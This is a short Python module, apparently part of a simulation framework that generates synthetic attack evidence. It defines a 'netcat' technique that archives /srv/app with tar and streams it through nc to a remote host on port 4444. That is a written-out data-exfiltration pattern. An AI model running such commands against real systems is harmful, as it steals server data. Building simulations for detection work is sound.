"""A tree goes through a pipe of tar and nc."""

from __future__ import annotations

from evidence.kind import Endpoint

from ..doing import Doing
from ..technique import Plan, Technique
from ..work import Visit


def _visits(plan: Plan) -> list[Visit]:
    place, size = plan.place("ssh"), plan.amount()

    def act(doing: Doing) -> None:
        doing.shell.run("tar", "cz", "/srv/app", seconds=0.1)
        actor = doing.shell.run("nc", place.ip, "4444", seconds=0.0, exe="/usr/bin/nc.openbsd")
        doing.shell.send(doing.draw, actor, Endpoint(ip=place.ip, port=4444), size, 0)

    return [plan.visit(plan.day(), act)]


TECHNIQUE = Technique("netcat", 10, "tar through nc", _visits)
